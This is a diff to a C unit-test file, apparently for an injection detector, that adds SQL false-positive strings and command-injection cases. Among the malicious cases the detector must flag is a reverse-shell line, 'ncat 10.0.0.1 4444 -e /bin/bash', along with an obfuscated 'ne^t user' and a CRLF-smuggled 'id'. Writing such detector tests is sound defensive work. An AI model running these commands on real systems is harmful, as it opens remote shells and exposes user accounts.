@@ -280,6 +280,8 @@ static void sqli_benign(void **state)
         "or more -- see below",
         "and x=5; free shipping",
         "union selection",
+        "European Union Select Committee",
+        "Union Select Committee 2024",
         "|| logo(1)",
         "group by week",
         "order by price desc",
@@ -611,6 +613,9 @@ static void cmdi_cases(void **state)
         "&w^ho^ami",
         "eval('whoami')",
         "$(`dir`)",
+        "ne^t user",
+        "'\\r\\nid",
+        "ncat 10.0.0.1 4444 -e /bin/bash",
     };
     for (size_t i = 0; i < sizeof bad / sizeof bad[0]; i++) {
         if (!CMDI(bad[i]))
@@ -666,6 +671,10 @@ static void cmdi_cases(void **state)
         "x^2 + y^2",
         "2^ping",
         "eval('2+2')",
+        "^_^ cute",
+        "a^b",
+        "nc state university",
+        "nc 27 tickets",
     };
     for (size_t i = 0; i < sizeof ok / sizeof ok[0]; i++) {
         if (CMDI(ok[i]))
